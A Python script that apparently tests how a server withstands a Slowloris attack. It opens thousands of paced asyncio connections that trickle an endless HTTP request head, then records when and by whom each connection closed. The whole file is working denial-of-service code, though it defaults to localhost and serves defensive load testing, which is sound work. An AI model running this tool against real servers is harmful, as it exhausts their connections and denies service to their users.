"""Slowloris clients: many connections that trickle a request head, a byte at a time.

    python slow_clients.py --port P [--conns 5000] [--interval 2-3] [--duration 30]
                           [--rate 1000] [--report FILE]

Each connection sends its first byte right after connecting, then one more byte every
``--interval`` seconds (a random value in the range, per byte) of a head that never ends
(``GET /slow HTTP/1.1``, Host, then an endless header value), for as long as the server
keeps it open or until ``--duration`` ends. Connections are opened at ``--rate`` per second
at most (the listen backlog is finite; a SYN flood is another attack).

Prints "OPEN <n> ..." once every connection is open (or failed) and "DONE" at the end,
when the server has closed every connection or --duration is over. --report gets one JSON
document: per connection the times (time.monotonic(), the same clock in every process on
Linux) of connect, first byte and close, who closed (``server``: EOF or reset from the
server; ``client``: still open at --duration) and the status line the server sent, if any.
Runs on one event loop (uvloop when installed): one process, protocols and timers, no task
per connection. RLIMIT_NOFILE is raised to the hard limit.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import resource
import sys
import time

HEAD = b"GET /slow HTTP/1.1\r\nHost: slow.example\r\nX-Slow: "


class SlowClient(asyncio.Protocol):
    def __init__(self, interval: tuple[float, float], rng: random.Random) -> None:
        self.interval = interval
        self.rng = rng
        self.transport = None
        self.sent = 0
        self.connected_at = self.first_byte_at = self.closed_at = None
        self.received = bytearray()
        self.closed_by = None
        self.timer = None

    def connection_made(self, transport) -> None:
        self.transport = transport
        self.connected_at = time.monotonic()
        self.send_byte()
        self.first_byte_at = time.monotonic()

    def send_byte(self) -> None:
        if self.transport is None or self.transport.is_closing():
            return
        data = HEAD[self.sent : self.sent + 1] if self.sent < len(HEAD) else b"x"
        self.transport.write(data)
        self.sent += 1
        delay = self.rng.uniform(*self.interval)
        self.timer = asyncio.get_running_loop().call_later(delay, self.send_byte)

    def data_received(self, data: bytes) -> None:
        if len(self.received) < 200:
            self.received += data[:200]

    def eof_received(self) -> bool:
        self.mark_closed("server")
        return False  # close our side too

    def connection_lost(self, exc) -> None:
        self.mark_closed("server" if self.closed_by is None else self.closed_by)

    def mark_closed(self, by: str) -> None:
        if self.closed_at is None:
            self.closed_at = time.monotonic()
            self.closed_by = by
        if self.timer is not None:
            self.timer.cancel()

    def stop(self) -> None:
        if self.closed_at is None:
            self.mark_closed("client")
        if self.transport is not None:
            self.transport.abort()

    def result(self) -> dict:
        status = bytes(self.received).split(b"\r\n", 1)[0].decode("latin-1") if self.received else None
        return {"connected": self.connected_at, "first_byte": self.first_byte_at, "closed": self.closed_at,
                "closed_by": self.closed_by, "bytes_sent": self.sent, "status": status}


async def attack(args) -> dict:
    loop = asyncio.get_running_loop()
    low, _, high = args.interval.partition("-")
    interval = (float(low), float(high or low))
    rng = random.Random(args.seed)
    clients: list[SlowClient] = []
    failures: list[str] = []
    in_flight = asyncio.Semaphore(200)
    started = time.monotonic()

    async def open_one(i: int) -> None:
        # Paced: connection i starts no earlier than i / rate seconds in.
        await asyncio.sleep(max(0.0, started + i / args.rate - time.monotonic()))
        async with in_flight:
            client = SlowClient(interval, rng)
            try:
                await asyncio.wait_for(loop.create_connection(lambda: client, args.host, args.port), 30)
            except (OSError, asyncio.TimeoutError) as exc:
                failures.append(f"{type(exc).__name__}: {exc}")
                return
            clients.append(client)

    await asyncio.gather(*(open_one(i) for i in range(args.conns)))
    opened = time.monotonic()
    print(f"OPEN {len(clients)} failed {len(failures)} in {opened - started:.2f}s", flush=True)
    deadline = started + args.duration
    while time.monotonic() < deadline and any(c.closed_at is None for c in clients):
        await asyncio.sleep(0.1)
    for client in clients:
        client.stop()
    return {"started": started, "opened": opened, "failures": failures[:20], "failed": len(failures),
            "clients": [c.result() for c in clients]}


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--conns", type=int, default=5000)
    ap.add_argument("--interval", default="2-3", help="seconds between bytes: N or LOW-HIGH")
    ap.add_argument("--duration", type=float, default=30.0, help="seconds from the first connect")
    ap.add_argument("--rate", type=float, default=1000.0, help="new connections per second at most")
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--report", default=None)
    args = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    try:
        import uvloop

        runner = uvloop.run
    except ImportError:
        runner = asyncio.run
    result = runner(attack(args))
    line = json.dumps(result)
    if args.report:
        with open(args.report, "w") as f:
            f.write(line)
    print("DONE", flush=True)
    sys.stdout.flush()


if __name__ == "__main__":
    main()
